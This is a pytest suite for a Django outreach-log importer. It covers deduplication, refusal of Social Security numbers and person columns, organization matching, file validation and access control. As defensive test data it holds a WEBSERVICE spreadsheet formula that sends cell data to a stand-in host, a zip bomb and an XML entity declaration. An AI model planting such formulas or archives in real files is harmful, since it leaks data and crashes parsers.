"""An existing log is imported: what is read, what never enters, what each row becomes, and that nothing comes twice."""

import csv
import json
import zipfile
from datetime import date, datetime, timedelta
from io import BytesIO, StringIO
from uuid import uuid4

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.timezone import now
from openpyxl import Workbook

from partners.duties import Duty
from partners.importing import reading
from partners.importing.columns import guessed
from partners.importing.guarding import NEVER, kept
from partners.importing.values import EXAMPLE, day_of, did_of, duty_of, names_of, trained_of
from partners.models import Figure, Outreach, Partnership, Party, Upload, UploadPart, upload
from partners.models.upload import KEPT_FOR
from partners.tasks import purge_uploads
from partners.taxonomy import Did
from portal.access import DatabaseRole, Role
from portal.errors import Refused
from portal.models import KeptText, Organization
from portal.tenancy import acting_as
from tests import make, servers
from tests.make import NOW
from tests.partners.directory import entered
from tests.partners.test_log import bound

pytestmark = pytest.mark.django_db
HEADS = ["Date", "Type", "Agency", "Summary", "Priority", "Notes", "ID"]
SSN = "219-09-9999"


def a_csv(*rows, heads=HEADS):
    written = StringIO()
    csv.writer(written).writerows([heads, *rows])
    return written.getvalue().encode()


def row(number=1, **said):
    values = {
        "Date": "2026-03-04", "Type": "meeting", "Agency": "Safe Harbor (invented)",
        "Summary": f"Met about plan {number}", "Priority": "5", "Notes": "", "ID": f"K{number}",
    }  # fmt: skip
    return list((values | said).values())


def sent(client, data, name="log.csv"):
    """Uploads a file; gives the answer, and the upload if there is one."""
    answer = client.post("/outreach/imports/new/", {"log": SimpleUploadedFile(name, data)})
    return answer, answer.headers.get("Location", "").removesuffix("columns/")


def columns(client, where):
    """What the page of columns would send when nobody touched it."""
    form = client.get(f"{where}columns/").context["form"]
    return {name: form[name].initial or "" for name in form.fields}


def checked(client, data, **changes):
    answer, where = sent(client, data)
    assert answer.status_code == 302, answer.context["form"].errors
    answer = client.post(f"{where}columns/", columns(client, where) | changes)
    assert answer.status_code == 302, answer.context["form"].errors
    return where


def written(client, where):
    """Writes all portions; gives how many there were."""
    for times in range(1, 50):
        assert client.post(f"{where}write/").status_code == 302
        page = client.get(where)
        if not page.context["is_running"]:
            return times
    raise AssertionError("it never ends")


def fates(client, where, query=""):
    """Row → result and words, as the page shows them."""
    shown = client.get(f"{where}?{query}").context["listing"].rows
    cells = [[cell["text"] for cell in one["cells"]] for one in shown]
    return {int(one[0]): (one[4], one[5]) for one in cells}


@pytest.fixture
def office(alma):
    return make.office("txnd")


@pytest.fixture
def log(office):
    """The entries of N.D. Tex., oldest first."""

    def read():
        with acting_as(DatabaseRole.OFFICE, office_id=office.pk):
            return list(Outreach.objects.standing().with_organizations().order_by("pk"))

    return read


# --- from the file to the entry ------------------------------------------------------------------------------------


def test_a_file_becomes_entries_and_the_same_file_again_adds_nothing(client_of, alma, shelter, office, log):
    client = client_of(alma)
    data = a_csv(row(1, Agency=shelter.name), row(2, Agency=shelter.name, Type="Training", Notes="Twelve came."))
    where = checked(client, data)
    assert log() == []
    assert fates(client, where) == {2: ("new", ""), 3: ("new", "")}

    assert written(client, where) == 1

    first, second = log()
    assert (first.held_on, first.did, first.duty, first.line) == (date(2026, 3, 4), Did.MEETING, 5, "Met about plan 1")
    assert (second.did, second.narrative, second.imported_as) == (Did.TRAINING, "Twelve came.", "K2")
    assert first.organizations == [shelter]
    assert first.recorded_by == alma
    with acting_as(DatabaseRole.OFFICE, office_id=office.pk):
        assert Partnership.objects.standing().get(organization=shelter).began_on == date(2026, 3, 4)
        assert not UploadPart.objects.exists()
        figure = Figure.objects.get(month="2026-03-01", did="MEETING", measure="ENTRIES")
        assert figure.number == 1

    again = checked(client, data)
    assert {fate for fate, _words in fates(client, again).values()} == {"already here"}
    written(client, again)
    assert len(log()) == 2


def test_without_a_key_a_row_is_known_by_all_that_stands_in_it(client_of, alma, shelter, log):
    client = client_of(alma)
    rows = [row(1, Agency=shelter.name)[:6], row(1, Agency=shelter.name)[:6], row(2, Agency=shelter.name)[:6]]
    where = checked(client, a_csv(*rows, heads=HEADS[:6]))
    assert [fate for fate, _words in fates(client, where).values()] == ["new", "already here", "new"]
    assert fates(client, where)[3][1] == "The same as row 2 of this file."
    written(client, where)
    where = checked(client, a_csv(*rows, heads=HEADS[:6]))
    written(client, where)
    assert len(log()) == 2


def test_a_key_that_names_another_entry_is_no_key_and_loses_nothing(client_of, alma, shelter, log):
    client = client_of(alma)
    written(client, checked(client, a_csv(row(1, Agency=shelter.name))))
    twins = [row(1, Agency=shelter.name, Date="2026-04-05"), row(2, Agency=shelter.name), row(3, Agency=shelter.name)]
    twins[2][6] = "K2"
    where = checked(client, a_csv(*twins))
    told = fates(client, where)
    assert [fate for fate, _words in told.values()] == ["refused", "new", "refused"]
    assert "choose no column as the key" in told[2][1]
    client.post(f"{where}columns/", columns(client, where) | {"key": ""})
    written(client, where)
    assert len(log()) == 4


def test_two_who_send_the_same_file_write_it_once(client_of, alma, vic, shelter, log):
    data = a_csv(row(1, Agency=shelter.name))
    one, other = checked(client_of(alma), data), checked(client_of(vic), data)
    assert fates(client_of(vic), other) == {2: ("new", "")}
    written(client_of(alma), one)
    written(client_of(vic), other)
    assert [entry.recorded_by for entry in log()] == [alma]
    assert "0 entries were written." in client_of(vic).get(other).content.decode()


def test_what_was_deleted_does_not_come_back_and_what_was_changed_is_here(client_of, alma, shelter, log, office):
    client = client_of(alma)
    data = a_csv(row(1, Agency=shelter.name), row(2, Agency=shelter.name))
    written(client, checked(client, data))
    with acting_as(DatabaseRole.OFFICE, office_id=office.pk, person_id=alma.pk):
        first, second = log()
        first.remove(by=alma, on=NOW.date())
        second.amend(organizations=[shelter], line="Another line", by=alma, on=NOW.date())
    where = checked(client, data)
    assert [words for _fate, words in fates(client, where).values()] == [
        "Imported before and deleted since; it can be restored.", "In the log, of March 4, 2026.",
    ]  # fmt: skip
    written(client, where)
    assert [entry.line for entry in log()] == ["Another line"]


def test_a_download_of_the_log_is_known_again(client_of, alma, shelter, log):
    client = client_of(alma)
    written(client, checked(client, a_csv(row(1, Agency=shelter.name))))
    download = client.get("/outreach/?format=csv")
    where = checked(client, b"".join(download) if download.streaming else download.content)
    assert {fate for fate, _words in fates(client, where).values()} == {"already here"}


def test_it_is_written_in_portions_and_goes_on_after_a_break(client_of, alma, shelter, log, monkeypatch):
    monkeypatch.setattr(upload, "AT_ONCE", 3)
    client = client_of(alma)
    where = checked(client, a_csv(*(row(n, Agency=shelter.name) for n in range(8))))
    assert client.post(f"{where}write/").status_code == 302
    assert len(log()) == 3
    page = client.get(where)
    assert "3 of 8 rows are through, 3 entries written." in page.content.decode()

    by_script = client.post(f"{where}write/", headers={"Sec-Fetch-Mode": "cors"})
    assert json.loads(by_script.content) == {
        "done": 6, "total": 8, "text": "6 of 8 rows are through, 6 entries written.", "is_over": False
    }  # fmt: skip
    assert client.post(f"{where}columns/", {}).status_code == 302  # too late: back to the page
    assert written(client, where) == 1
    assert len(log()) == 8
    assert client.post(f"{where}write/").status_code == 302  # once more changes nothing
    assert len(log()) == 8


def test_a_portion_that_breaks_writes_nothing_and_is_written_next_time(client_of, alma, shelter, log, monkeypatch):
    client = client_of(alma)
    where = checked(client, a_csv(row(1, Agency=shelter.name)))
    with monkeypatch.context() as broken:
        broken.setattr(Party.objects, "bulk_create", lambda _rows: 1 / 0)
        with pytest.raises(ZeroDivisionError):
            client.post(f"{where}write/")
    assert log() == []
    written(client, where)
    assert len(log()) == 1


# --- who must not be named -----------------------------------------------------------------------------------------


def test_what_identifies_somebody_is_kept_nowhere_and_its_row_refused(client_of, alma, shelter, log):
    client = client_of(alma)
    where = checked(
        client, a_csv(row(1, Agency=shelter.name, Notes=f"Her number is {SSN}."), row(2, Agency=shelter.name))
    )
    fate, words = fates(client, where)[2]
    assert fate == "refused"
    assert "a Social Security number" in words
    with acting_as(DatabaseRole.OFFICE, office_id=alma.memberships.get().office_id):
        assert SSN not in json.dumps(list(UploadPart.objects.values_list("rows", flat=True)))
        assert SSN not in json.dumps(list(Upload.objects.values_list("heads", "mapping", "names")))
    written(client, where)
    assert [entry.line for entry in log()] == ["Met about plan 2"]


def test_a_label_in_one_cell_and_the_number_in_another_are_read_together():
    heads = ["Date", "Label", "Value", "Line"]
    rows = [(2, ["2026-03-04", "Her SSN", "219099999", "Met"]), (3, ["2026-03-04", "Room", "219099", "Met"])]
    first, second = kept(heads, iter(rows))
    assert first.trouble
    assert "219099999" not in first.cells
    assert (second.trouble, second.cells[2]) == ("", "219099")


def test_a_column_about_a_person_is_emptied_whatever_stands_in_it(client_of, alma, shelter):
    client = client_of(alma)
    heads = [*HEADS[:6], "Client name"]
    _answer, where = sent(client, a_csv(row(1, Agency=shelter.name, ID="Zanzibarq Quetzal"), heads=heads))
    with acting_as(DatabaseRole.OFFICE, office_id=alma.memberships.get().office_id):
        assert "Zanzibarq" not in json.dumps(list(UploadPart.objects.values_list("rows", flat=True)))
    assert "Zanzibarq" not in client.get(f"{where}columns/").content.decode()


@pytest.mark.parametrize("head", ["Client", "Victim's name", "SSN", "DOB", "Date of birth", "Case No.", "Survivor ID"])
def test_heads_that_are_about_a_person(head):
    assert NEVER.fullmatch(head)


@pytest.mark.parametrize(
    "head", ["Victim services agency", "Client agency", "Date", "Court", "Number", "ID", "Phone call"]
)
def test_heads_that_are_not(head):
    assert not NEVER.fullmatch(head)


def test_what_may_identify_somebody_needs_one_reason_for_the_file(client_of, alma, shelter, log):
    client = client_of(alma)
    where = checked(client, a_csv(row(1, Agency=shelter.name, Notes="Call 214-555-0142 to follow up.")))
    assert "give a reason for the file" in fates(client, where)[2][1]
    page = client.get(f"{where}names/")
    assert "because" in page.context["form"].fields

    bad = client.post(f"{where}names/", {"because": f"It is hers: {SSN}"})
    assert bad.status_code == 422
    assert client.post(f"{where}names/", {"because": "The hotline’s public number"}).status_code == 302
    written(client, where)

    assert len(log()) == 1
    with acting_as(DatabaseRole.EOUSA):
        kept = KeptText.objects.get()
        assert (kept.form, kept.field, kept.kinds, kept.reason, kept.person_id) == (
            "Upload", "narrative", ["phone"], "The hotline’s public number", alma.pk
        )  # fmt: skip


# --- organizations -------------------------------------------------------------------------------------------------


def test_an_unknown_organization_is_decided_once_for_all_its_rows(client_of, alma, shelter, log, office):
    client = client_of(alma)
    data = a_csv(
        row(1, Agency=shelter.name.replace("(invented)", "") + " Inc"),
        row(2, Agency="Night Bell Hotlin; Night Bell Hotlin", Date="2025-05-06"),
        row(3, Agency="Night Bell Hotlin"),
    )  # fmt: skip
    where = checked(client, data)
    assert {fate for fate, _words in fates(client, where).values()} == {"refused"}
    assert "stay out until you say who that is" in client.get(where).content.decode()
    form = client.get(f"{where}names/").context["form"]
    assert [field.label for field in form] == ["Night Bell Hotlin", f"{shelter.name.replace(' (invented)', '')} Inc"]
    assert f"is-{shelter.pk}" in str(form["name-1"].field.choices)

    client.post(f"{where}names/", {"name-0": "new-HOTLINE", "name-1": f"is-{shelter.pk}"})
    assert fates(client, where)[3] == ("new", "Entered as new: Night Bell Hotlin.")
    written(client, where)

    made = Organization.objects.get(name="Night Bell Hotlin")
    assert made.office == office
    assert [entry.organizations for entry in log()] == [[shelter], [made], [made]]
    with acting_as(DatabaseRole.OFFICE, office_id=office.pk):
        assert Partnership.objects.get(organization=made).began_on == date(2025, 5, 6)


def test_another_offices_hidden_organization_can_not_be_meant(client_of, alma, otis, shelter):
    hidden = entered(otis, "Hidden House (invented)", is_confidential=True)
    client = client_of(alma)
    where = checked(client, a_csv(row(1, Agency="Hidden House (invented)")))
    form = client.get(f"{where}names/").context["form"]
    assert f"is-{hidden.pk}" not in str(form["name-0"].field.choices)
    assert client.post(f"{where}names/", {"name-0": f"is-{hidden.pk}"}).status_code == 422


# --- columns and cells ---------------------------------------------------------------------------------------------


def test_columns_are_guessed_by_heads_and_by_contents():
    assert guessed(HEADS, [[]] * 7) == {
        "day": 0, "kind": 1, "organizations": 2, "line": 3, "narrative": 5, "key": 6, "duty": 4
    }  # fmt: skip
    assert guessed(["a", "b", "c"], [["x"], ["3/4/2026", "4/25/2026"], ["Meeting", "training"]]) == {
        "day": 1,
        "kind": 2,
    }


def test_who_is_a_column_of_organizations():
    assert guessed(["When", "What", "Who"], [[]] * 3) == {"day": 0, "line": 1, "organizations": 2}


def test_a_column_that_is_missing_is_asked_for_in_a_sentence(client_of, alma, shelter):
    client = client_of(alma)
    _answer, where = sent(client, a_csv(row(1)))
    page = client.post(f"{where}columns/", columns(client, where) | {"organizations": ""})
    assert page.status_code == 422
    assert page.context["form"].errors["organizations"] == [
        "Choose the column in which this stands. No row can do without it."
    ]


def test_the_same_heads_are_read_as_last_time(client_of, alma, otis, shelter):
    heads = ["one", "two", "three", "four"]
    rows = [["2026-03-04", "meeting", shelter.name, "A line"]]
    checked(client_of(alma), a_csv(*rows, heads=heads), organizations="2", line="3", duty_else="4")
    _answer, where = sent(client_of(alma), a_csv(*rows, heads=heads))
    assert columns(client_of(alma), where)["line"] == "3"
    assert columns(client_of(alma), where)["duty_else"] == 4
    _answer, where = sent(client_of(otis), a_csv(*rows, heads=heads))
    assert columns(client_of(otis), where)["line"] == ""


def test_a_file_whose_days_can_be_read_in_two_ways_is_asked_about(client_of, alma, shelter, log):
    client = client_of(alma)
    _answer, where = sent(client, a_csv(row(1, Agency=shelter.name, Date="3/4/2026")))
    said = columns(client, where)
    assert said["order"] == ""
    assert client.post(f"{where}columns/", said).status_code == 422
    client.post(f"{where}columns/", said | {"order": "day"})
    written(client, where)
    assert log()[0].held_on == date(2026, 4, 3)


def test_rows_that_cannot_be_an_entry_are_refused_with_what_to_do(client_of, alma, shelter):
    client = client_of(alma)
    where = checked(
        client,
        a_csv(
            row(1, Agency=shelter.name, Date="soon"),
            row(2, Agency=shelter.name, Date="2999-01-01"),
            row(3, Agency=shelter.name, Type="dance"),
            row(4, Agency=shelter.name, Priority="9"),
            row(5, Agency=""),
            row(6, Agency=shelter.name, Summary=""),
            row(7, Agency=shelter.name, Summary=EXAMPLE),
            [*row(8, Agency=shelter.name), "one more"],
        ),
    )  # fmt: skip
    told = fates(client, where)
    assert {fate for fate, _words in told.values()} == {"refused"}
    assert [words.split(".")[0] for _fate, words in told.values()] == [
        "day “soon” is not a date", "The day is in the future", "The kind “dance” is not known",
        "The duty “9” is not known", "No organization is named", "The line is empty",
        "This is the example row of the template",
        "The row has more cells than the file has heads: put a cell that holds a comma into quotation marks",
    ]  # fmt: skip
    refused = client.get(f"{where}?fate=R&format=csv").content.decode()
    assert refused.count("\n") == 9
    assert "is not a date" in refused


def test_cells():
    assert day_of("3/4/2026", is_day_first=False) == date(2026, 3, 4)
    assert day_of("3/4/2026", is_day_first=True) == date(2026, 4, 3)
    assert day_of("2026-03-04 09:30", is_day_first=True) == date(2026, 3, 4)
    assert did_of("Training of professionals") == did_of("TRAINING") == Did.TRAINING
    assert duty_of("5 firearms") == duty_of("Duty 5") == duty_of("Firearms") == Duty.FIREARMS
    assert names_of("One House;Two  House\nOne House") == ("One House", "Two House")
    assert trained_of("COURTS:3; prosecutors: 12") == (("COURTS", 3), ("PROSECUTORS", 12))
    assert trained_of("1,200") == (("MULTIDISCIPLINARY", 1200),)
    with pytest.raises(Refused):
        trained_of("twelve officers")


def test_the_template_can_be_sent_back_and_writes_nothing(client_of, alma):
    client = client_of(alma)
    template = client.get("/outreach/imports/template/").content
    assert b"EXAMPLE (invented)" in template
    where = checked(client, template)
    assert fates(client, where) == {2: ("refused", "This is the example row of the template. Delete it.")}


# --- files of every sort -------------------------------------------------------------------------------------------


def a_workbook(*rows, heads=HEADS):
    book = Workbook()
    sheet = book.active
    for one in [heads, *rows]:
        sheet.append(one)
    data = BytesIO()
    book.save(data)
    return data.getvalue()


def test_a_workbook_is_read_and_no_formula_is_calculated(client_of, alma, shelter, log):
    client = client_of(alma)
    rows = [row(n, Agency=shelter.name, Date=datetime(2026, 3, 4), Priority=5) for n in (1, 2)]
    rows[1][5] = '=WEBSERVICE("https://example.invalid/"&A1)'
    where = checked(client, a_workbook(*rows))
    written(client, where)
    assert [(entry.held_on, entry.narrative) for entry in log()] == [(date(2026, 3, 4), "")] * 2


def refusal(data):
    with pytest.raises(Refused) as told:
        list(reading.rows_of(BytesIO(data), len(data)))
    return str(told.value)


def test_a_workbook_that_unpacks_into_far_more_is_not_opened():
    bomb = BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("xl/worksheets/sheet1.xml", b"0" * 50_000_000)
    assert "unpacks into far more" in refusal(bomb.getvalue())


def test_a_workbook_whose_text_refers_to_itself_is_not_opened():
    data = BytesIO()
    with zipfile.ZipFile(data, "w") as packed:
        packed.writestr("xl/workbook.xml", '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')
    assert "declarations" in refusal(data.getvalue())


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "empty"),
        (b"PK\x03\x04 no workbook", "cannot be read"),
        (a_workbook(row())[:900], "cannot be read"),
        (b"%PDF-1.7", "neither a CSV"),
        ("Date,Type".encode("utf-16"), "UTF-16"),
        (b"a,b,c\n1,2,\xff\xfe", "not UTF-8"),
        (b"a,b,c\n1,\x00,3", "not text"),
        (b",".join([b"x"] * 60), "more than 40 columns"),
        (b'a,b,c\n"' + b"x" * 200_000, "cannot be read as CSV"),
    ],
)
def test_a_file_that_is_no_log_is_refused_with_a_sentence(data, words):
    assert words in refusal(data)


def test_too_many_rows_are_refused(monkeypatch):
    monkeypatch.setattr(reading, "MOST_ROWS", 3)
    assert "more than 3 rows" in refusal(a_csv(*(row(n) for n in range(4))))


def test_a_refused_file_leaves_nothing(client_of, alma, office):
    answer, _where = sent(client_of(alma), b"a,b,c\n1,2,\xff")
    assert answer.status_code == 422
    with acting_as(DatabaseRole.OFFICE, office_id=office.pk):
        assert not Upload.objects.exists()
        assert not UploadPart.objects.exists()


# --- whose it is ---------------------------------------------------------------------------------------------------


def test_nobody_else_reaches_an_offices_upload(client_of, alma, otis, olga, erin, shelter):
    where = checked(client_of(alma), a_csv(row(1, Agency=shelter.name)))
    assert client_of(otis).get(where).status_code == 404
    assert client_of(otis).post(f"{where}write/").status_code == 404
    assert client_of(olga).get(where).status_code == 403
    assert client_of(erin).get(where).status_code == 403


def test_what_nobody_finishes_goes_after_thirty_days(transactional_db, urls):
    alma, office, at = make.member("Alma Reyes", Role.SPECIALIST, office="txnd"), make.office("txnd"), now()
    house = make.organization("Safe Harbor (invented)")
    found = {}
    ages = {"young": KEPT_FOR - timedelta(hours=1), "old": KEPT_FOR + timedelta(hours=1), "over": timedelta(days=60)}
    for name, age in ages.items():
        with bound(alma):
            sent_in = SimpleUploadedFile("log.csv", a_csv(row(1, Agency=house.name)))
            found[name] = Upload.objects.receive(log=sent_in, office=office, by=alma, at=at - age, pk=uuid4())
    with bound(alma):
        over = found["over"]
        over.match(matching=over.how, by=alma, on=at.date())
        over.write_next(by=alma, on=at.date())

    servers.log_in(urls["DATABASE_WORKER_URL"])
    try:
        purge_uploads()
        purge_uploads()
    finally:
        servers.log_in(urls["DATABASE_URL"])

    with bound(alma):
        assert set(Upload.objects.values_list("pk", flat=True)) == {found["young"].pk, over.pk}
        assert [part.upload for part in UploadPart.objects.all()] == [found["young"]]
        assert Upload.objects.get(pk=over.pk).written == 1


def test_a_file_is_thrown_away(client_of, alma, shelter, log, office):
    client = client_of(alma)
    where = checked(client, a_csv(row(1, Agency=shelter.name)))
    assert client.post(f"{where}discard/").status_code == 302
    assert client.get(where).status_code == 404
    with acting_as(DatabaseRole.OFFICE, office_id=office.pk):
        assert not UploadPart.objects.exists()
    assert log() == []
